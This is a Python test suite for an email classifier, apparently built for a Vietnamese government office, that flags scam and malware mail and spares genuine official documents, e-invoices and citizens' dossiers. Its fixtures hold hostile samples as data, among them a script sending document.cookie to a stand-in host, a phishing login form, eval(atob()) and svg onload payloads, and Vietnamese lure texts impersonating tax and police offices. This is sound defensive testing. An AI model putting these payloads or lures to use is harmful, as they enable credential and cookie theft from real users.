"""Scam and malware mail by its class (daemon/understand/scams.py): disguised and runnable
attachments, web pages with scripts or login forms, encrypted archives whose password the mail
gives, and the Vietnamese scam families (fake e-invoice, fake e-office "văn bản đến", fake tax,
social security or police notices). And what must never become spam: a real official document
with its PDF, a real e-invoice from a provider, a real e-office notice, a citizen's dossier."""

from __future__ import annotations

import io
import zipfile
from email.message import EmailMessage
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from daemon import config
from daemon.models import Kind, Understanding
from daemon.textnorm import nfc
from daemon.understand import NoCases, judge, read, scams
from tests.conftest import AUTHSERV_ID
from tests.hostile.attachments import encrypted
from tests.hostile.secrecy import pdf

CFG = config.parse({"security": {"authserv_id": AUTHSERV_ID}}, file="test", text="",
                   base=Path("."))
Attached = tuple[str, str, bytes]


def mail(sender: str, subject: str, body: str, attachments: tuple[Attached, ...] = (),
         auth: bool | None = None, html: str | None = None) -> bytes:
    """A real MIME mail; `auth` True/False adds our server's DMARC pass/fail for the sender."""
    msg = EmailMessage()
    domain = sender.rpartition("@")[2]
    if auth is not None:
        result = "pass" if auth else "fail"
        msg["Authentication-Results"] = (f"{AUTHSERV_ID}; dkim={result} header.d={domain}; "
                                         f"dmarc={result} header.from={domain}")
    msg["From"] = sender
    msg["To"] = "vanthu@sxd.tayninh.gov.vn"
    msg["Subject"] = subject
    msg["Message-ID"] = f"<m1@{domain}>"
    msg["Date"] = "Mon, 11 May 2026 08:00:00 +0700"
    msg.set_content(body)
    if html is not None:
        msg.add_alternative(html, subtype="html")
    for name, content_type, data in attachments:
        main, _, sub = content_type.partition("/")
        msg.add_attachment(data, maintype=main, subtype=sub, filename=name)
    return msg.as_bytes()


def understood(raw: bytes) -> Understanding:
    return judge(read(raw, CFG.limits), CFG, NoCases())


def zipped(*entries: tuple[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, data in entries:
            archive.writestr(name, data)
    return out.getvalue()


def assert_scam(und: Understanding, *words: str) -> None:
    """Spam, held for the clerk with a Vietnamese reason naming `words`."""
    assert und.kind is Kind.SPAM, und.why
    reason = next(r for r in und.quarantine_reasons if r.startswith("thư lừa đảo"))
    assert reason == nfc(reason)
    for word in words:
        assert word in reason, reason


DOCUMENT = ("UBND TỈNH TÂY NINH\nSỞ NỘI VỤ\nSố: 215/SNV-VP\nTây Ninh, ngày 11 tháng 5 năm 2026\n"
            "V/v tập huấn công tác văn thư, lưu trữ\nKính gửi: Sở Xây dựng.\n")
PDF = pdf(DOCUMENT)
FORM = pdf("CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM\nĐƠN ĐỀ NGHỊ\nTôi là Nguyễn Văn An, "
           "sinh năm 1980, đề nghị được cấp giấy phép.")
MZ = b"MZ\x90\x00" + b"\x00" * 60
PAGE = b"<html><body><p>V\xc4\x83n b\xe1\xba\xa3n \xc4\x91\xe1\xba\xbfn</p></body></html>"

# ------------------------------------------------------------------ disguised attachments

_STEM = st.text(alphabet="VanBndeĐếHóaơTbáo_-0123456789 ", min_size=1, max_size=16).filter(
    lambda s: s.strip(" .") == s and s)
_INNER = st.sampled_from(["pdf", "doc", "docx", "xls", "xlsx", "jpg", "png", "txt", "zip"])
_FINAL = st.sampled_from(["html", "htm", "shtml", "svg", "exe", "scr", "js", "vbs", "hta",
                          "lnk", "iso", "img", "bat", "cmd", "ps1", "jar", "msi", "wsf"])
_GAP = st.sampled_from(["", " ", "   ", "\u00a0", "  \u3000"])


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(_STEM, _INNER, _FINAL, _GAP, st.booleans(), st.booleans())
def test_a_document_name_hiding_a_web_page_or_program_is_a_scam_whoever_sends_it(
        stem: str, inner: str, final: str, gap: str, upper: bool, official: bool) -> None:
    name = f"{stem}.{inner}{gap}.{final}"
    name = name.upper() if upper else name
    payload = PAGE if final in ("html", "htm", "shtml", "svg") else MZ
    sender = "vanthu@snv.tayninh.gov.vn" if official else "thongbao@egov-office.com"
    body = DOCUMENT if official else "Đồng chí có 01 văn bản mới. Mở tệp đính kèm để xem."
    und = understood(mail(sender, "Văn bản đến", body, ((name, "application/octet-stream",
                                                          payload),), auth=official or None))

    assert_scam(und, "giả dạng tài liệu", f".{final}")


@pytest.mark.parametrize("name", ["VanBanDen_2026.pdf.html", "thongbao.doc.htm",
                                  "HoaDon.PDF.exe", "CongVan.docx .scr", "anh_the.jpg.lnk"])
def test_the_known_shapes_of_disguise(name: str) -> None:
    assert scams.disguise(name) is not None


@pytest.mark.parametrize("name", ["cong-van.pdf", "bao-cao.doc.rar", "ho-so.tar.gz",
                                  "bang.xlsx.zip", "Nghi.dinh.30.2020.pdf", "v1.2.docx",
                                  "trang.html", "a.b.c", ".pdf.html.txt"])
def test_names_that_disguise_nothing(name: str) -> None:
    assert scams.disguise(name) is None


def test_a_program_named_as_a_pdf_is_a_scam() -> None:
    und = understood(mail("an@gmail.com", "Hồ sơ", "Gửi hồ sơ.",
                          (("ho-so.pdf", "application/pdf", MZ),)))
    assert_scam(und, "mang tên tài liệu nhưng là chương trình")


def test_a_bidi_disguised_name_is_a_scam() -> None:
    und = understood(mail("an@gmail.com", "Hồ sơ", "Gửi hồ sơ.",
                          (("hoso\u202efdp.exe", "application/octet-stream", MZ),)))
    assert_scam(und, "đảo chiều")


# ------------------------------------------------------------------ runnable attachments


@pytest.mark.parametrize(("name", "data"), [
    ("huong-dan.lnk", b"L\x00\x00\x00\x01\x14\x02\x00" + b"\x00" * 70),
    ("VanBan.iso", b"\x00" * 0x8001 + b"CD001" + b"\x00" * 100),
    ("hoso.img", b"\x00" * 512), ("capnhat.exe", MZ), ("tienich.scr", MZ),
    ("xem.js", b"WScript.Shell"), ("mo.vbs", b"CreateObject(1)"),
    ("thongbao.hta", b"<script>1</script>"), ("in.bat", b"@echo off"),
])
def test_a_runnable_attachment_from_a_stranger_is_malware(name: str, data: bytes) -> None:
    und = understood(mail("hotro@dichvu-online.com", "Tài liệu", "Xem tệp đính kèm.",
                          ((name, "application/octet-stream", data),)))
    assert_scam(und, name)


@pytest.mark.parametrize("entry", ["HoaDon_GTGT.pdf.exe", "setup.exe", "xem hoa don.lnk",
                                   "ho-so/thongbao.js"])
def test_a_runnable_file_inside_a_zip_is_malware(entry: str) -> None:
    data = zipped((entry, MZ), ("doc-truoc.txt", b"Mo tep de xem"))
    und = understood(mail("an@yahoo.com", "Tài liệu", "Giải nén để xem.",
                          (("TaiLieu.zip", "application/zip", data),)))
    assert_scam(und, "TaiLieu.zip chứa")


@pytest.mark.parametrize("page", [
    b'<form action="https://mail-xacthuc.example.com/p.php" method="post">'
    b'<input name="u"><input type="password" name="p"></form>',
    b"<html><script>location='http://a.example/?c='+document.cookie</script></html>",
    b'<meta http-equiv="refresh" content="0;url=https://login.example.net">',
    b'<svg xmlns="http://www.w3.org/2000/svg" onload="fetch(1)"></svg>',
    b"<html><body><img src=x onerror=\"eval(atob('YWxlcnQoMSk='))\"></body></html>",
])
@pytest.mark.parametrize("name", ["DangNhap.html", "Thongbao.htm", "VanBan.svg"])
def test_a_web_page_with_a_script_or_a_login_form_is_a_scam(page: bytes, name: str) -> None:
    und = understood(mail("it@hopthu-congvu.net", "Xác nhận hộp thư",
                          "Mở tệp đính kèm để xác nhận.",
                          ((name, "text/html", page),)))
    assert_scam(und, "trang web đính kèm", name)


def test_an_encrypted_archive_with_its_password_in_the_mail_is_malware() -> None:
    data = encrypted(zipped(("HoaDon.pdf", b"%PDF-1.4 x")))
    und = understood(mail("ketoan@congty-abc.com", "Chứng từ thanh toán",
                          "Gửi anh chị chứng từ. Mật khẩu giải nén: 2026",
                          (("ChungTu.zip", "application/zip", data),)))
    assert_scam(und, "mật khẩu ghi ngay trong thư")


# ------------------------------------------------------------------ scam families

_NOT_PROVIDERS = st.sampled_from(["einvoice-vn.xyz", "hoadon-dientu.com", "meinvoice-vn.net",
                                  "tracuu-hoadon.online", "vnpt-invoice.com.vn.tracuu.top",
                                  "hddt-thongbao.shop", "ketoan-hoadon.info"])
_INVOICE_SUBJECTS = st.sampled_from([
    "Hóa đơn điện tử số {n} - thanh toán gấp", "THÔNG BÁO PHÁT HÀNH HÓA ĐƠN ĐIỆN TỬ {n}",
    "Hoá đơn GTGT tháng 4/2026 (số {n})", "Tra cứu hóa đơn {n} trước khi bị khóa",
    "[eInvoice] Invoice {n} issued"])
_LURES = st.sampled_from([
    ("zip-exe", "Tải hóa đơn trong tệp đính kèm.",
     ("HoaDon.zip", "application/zip", zipped(("HoaDon_GTGT.pdf.exe", MZ))), ""),
    ("html", "Xem hóa đơn trong tệp đính kèm.",
     ("HoaDon_{n}.html", "text/html", b"<form action='https://x.example/p'>"
      b"<input type=password></form>"), ""),
    ("link", "Quý khách vui lòng tải hóa đơn tại https://{dom}/hd/{n} để tránh bị phạt.",
     None, ""),
    ("shown-link", "Tra cứu hóa đơn tại đường dẫn bên dưới trong vòng 24 giờ.", None,
     '<a href="https://{dom}/tracuu">https://hoadondientu.gdt.gov.vn</a>'),
])


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(_NOT_PROVIDERS, _INVOICE_SUBJECTS, _LURES, st.integers(1, 99999),
       st.sampled_from([None, False]))
def test_fake_einvoices_are_spam(domain: str, subject: str,
                                 lure: tuple[str, str, Attached | None, str], number: int,
                                 auth: bool | None) -> None:
    _, body, attached, html = lure
    files: tuple[Attached, ...] = ()
    if attached:
        name, content_type, data = attached
        files = ((name.format(n=number), content_type, data),)
    raw = mail(f"hoadon@{domain}", subject.format(n=number),
               body.format(dom=domain, n=number), files, auth=auth,
               html=html.format(dom=domain) or None)
    und = understood(raw)

    assert und.kind is Kind.SPAM, und.why
    # Held with the reason, unless it is phishing by a link alone (spam like any other).
    assert und.quarantine or und.why.startswith("liên kết hiện")


@pytest.mark.parametrize(("sender", "subject", "body"), [
    ("thongbao@cucthue-vn.com", "Thông báo khóa mã số thuế",
     "Doanh nghiệp có nguy cơ bị khóa mã số thuế. Cài đặt ứng dụng thuế tại "
     "http://etax-capnhat.top/app.apk ngay lập tức."),
    ("bhxh@baohiem-xahoi.online", "Cập nhật thông tin bảo hiểm xã hội",
     "Đề nghị cập nhật thông tin BHXH trong vòng 24 giờ tại https://vssid-capnhat.site/login,"
     " quá hạn sẽ bị khóa sổ."),
    ("congan.hanoi@gmail.com", "Giấy triệu tập",
     "Công an thành phố gửi giấy triệu tập điều tra đường dây rửa tiền. Xem tại "
     "https://drive-xem.click/trieutap, nếu không đến sẽ bị xử lý theo quy định."),
    ("admin@vanban-dientu.com", "Hệ thống quản lý văn bản điều hành: bạn có văn bản mới",
     "Đồng chí có 01 văn bản đến mới. Đăng nhập tại https://qlvb-tayninh.com/login "
     "để xem, khẩn cấp."),
])
def test_impersonation_of_the_state_is_a_scam(sender: str, subject: str, body: str) -> None:
    assert_scam(understood(mail(sender, subject, body)))


def test_a_forged_state_sender_is_judged_like_anyone() -> None:
    """gov.vn in From that failed our server's DMARC check is not the state's mail."""
    raw = mail("thongbao@gdt.gov.vn", "Thông báo khóa mã số thuế",
               "Doanh nghiệp sẽ bị khóa mã số thuế. Cài đặt ứng dụng thuế tại "
               "https://etax-capnhat.top/app ngay lập tức.",
               (("HuongDan.exe", "application/octet-stream", MZ),), auth=False)
    assert_scam(understood(raw), "HuongDan.exe")


# ------------------------------------------------------------------ what is never spam

_PROVIDERS = st.sampled_from(["noreply@vnpt-invoice.com.vn", "hoadon@meinvoice.vn",
                              "sinvoice@viettel.vn", "no-reply@ehoadon.vn",
                              "einvoice@minvoice.com.vn", "thongbao@easyinvoice.vn"])
_INVOICE_XML = (b'<?xml version="1.0" encoding="UTF-8"?><HDon><DLHDon><TTChung>'
                b"<KHHDon>C26TAA</KHHDon><SHDon>123</SHDon></TTChung></DLHDon></HDon>")


@settings(max_examples=30, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(_PROVIDERS, st.integers(1, 9_999_999), st.booleans(), st.sampled_from([True, None]))
def test_a_real_einvoice_from_a_provider_is_never_spam(sender: str, number: int, packed: bool,
                                                       auth: bool | None) -> None:
    domain = sender.rpartition("@")[2]
    invoice = pdf(f"HÓA ĐƠN GIÁ TRỊ GIA TĂNG\nSố: {number}\nKý hiệu: 1C26TAA")
    files: tuple[Attached, ...] = (
        (("HoaDon.zip", "application/zip", zipped((f"{number}.pdf", invoice),
                                                    (f"{number}.xml", _INVOICE_XML))),)
        if packed else ((f"{number}.pdf", "application/pdf", invoice),
                        (f"{number}.xml", "text/xml", _INVOICE_XML)))
    raw = mail(sender, f"Thông báo phát hành hóa đơn điện tử số {number}",
               "Kính gửi Quý khách hàng. Công ty ABC gửi hóa đơn điện tử. Tra cứu tại "
               f"https://tracuu.{domain}/ với mã tra cứu ABC{number}. Vui lòng thanh toán "
               "trước ngày 30/5.", files, auth=auth)
    und = understood(raw)

    assert und.kind is not Kind.SPAM, und.why
    assert not und.quarantine


def test_an_invoice_from_the_sellers_own_domain_failing_authentication_is_not_spam() -> None:
    """Small companies' mail often fails SPF: one mark is a doubt, not a verdict."""
    raw = mail("ketoan@congtyxaydungabc.com.vn", "Hóa đơn điện tử tháng 4/2026",
               "Công ty gửi hóa đơn GTGT số 456. Tra cứu tại https://meinvoice.vn/tra-cuu.",
               (("456.pdf", "application/pdf", pdf("HÓA ĐƠN GIÁ TRỊ GIA TĂNG\nSố: 456")),
                ("456.xml", "text/xml", _INVOICE_XML)), auth=False)
    assert understood(raw).kind is not Kind.SPAM


def test_a_real_official_document_with_its_pdf_is_a_document() -> None:
    raw = mail("vanthu@snv.tayninh.gov.vn", "Công văn 215/SNV-VP", "Gửi công văn đính kèm.",
               (("215-SNV-VP.pdf", "application/pdf", PDF),), auth=True)
    und = understood(raw)

    assert und.kind is Kind.DOCUMENT, und.why
    assert not und.quarantine


def test_a_real_eoffice_notice_from_gov_vn_is_not_spam() -> None:
    raw = mail("qlvb@tayninh.gov.vn", "Hệ thống quản lý văn bản điều hành: bạn có văn bản mới",
               "Đồng chí có 01 văn bản đến mới, đề nghị xử lý trước 17 giờ. Xem tại "
               "https://qlvb.tayninh.gov.vn/vanban/123", auth=True)
    assert understood(raw).kind is not Kind.SPAM


@pytest.mark.parametrize(("name", "data", "content_type"), [
    ("bao-cao.html", b"<html><script>draw()</script><p>B\xc3\xa1o c\xc3\xa1o</p></html>",
     "text/html"),
    ("phan-mem-ky-so.exe", MZ, "application/octet-stream"),
])
def test_an_official_document_with_a_dangerous_file_is_withheld_not_spam(
        name: str, data: bytes, content_type: str) -> None:
    """An official sender's program or scripted page is withheld from the forward, but the
    document itself is registered: only a disguise makes official mail a scam."""
    raw = mail("vanthu@snv.tayninh.gov.vn", "Công văn 215/SNV-VP", DOCUMENT,
               ((name, content_type, data),), auth=True)
    und = understood(raw)

    assert und.kind is Kind.DOCUMENT, und.why
    assert not und.quarantine


@pytest.mark.parametrize(("subject", "body", "files"), [
    ("Hồ sơ đề nghị cấp giấy phép xây dựng", "Kính gửi Sở Xây dựng, tôi xin nộp hồ sơ.",
     (("ho-so.zip", "application/zip", zipped(("don.pdf", FORM), ("ban-ve.pdf", FORM))),)),
    ("Đề nghị cấp lại chứng chỉ hành nghề", "Tôi xin cấp lại chứng chỉ; giấy xác nhận của "
     "công an phường đính kèm.", (("xac-nhan.pdf", "application/pdf", FORM),)),
    ("Hồ sơ đăng ký sử dụng hóa đơn điện tử", "Doanh nghiệp xin nộp hồ sơ đăng ký hóa đơn "
     "điện tử, mật khẩu tài khoản sẽ gửi sau.", (("to-khai.pdf", "application/pdf", FORM),)),
    ("Hồ sơ xin cấp phép", "Hồ sơ nén có mật khẩu, tôi sẽ gọi điện báo mật khẩu.",
     (("ho-so.zip", "application/zip", encrypted(zipped(("don.pdf", FORM)))),)),
])
def test_a_citizens_dossier_is_not_spam(subject: str, body: str,
                                        files: tuple[Attached, ...]) -> None:
    und = understood(mail("nguyenvanan@gmail.com", subject, body, files))
    assert und.kind is Kind.DOSSIER, und.why


def test_hostile_sizes_are_judged_in_bounded_time() -> None:
    body = "hóa đơn điện tử https://a.top/ " * 40_000 + "on" * 200_000
    page = b"<p " + b"onx" * 400_000 + b">"
    zip_names = zipped(*((f"tep{i}.pdf", b"%PDF-1.4") for i in range(1000)))
    raw = mail("a@b.example", "Hóa đơn", body, (("a.html", "text/html", page),
                                                ("b.zip", "application/zip", zip_names)))
    assert understood(raw).kind is Kind.SPAM
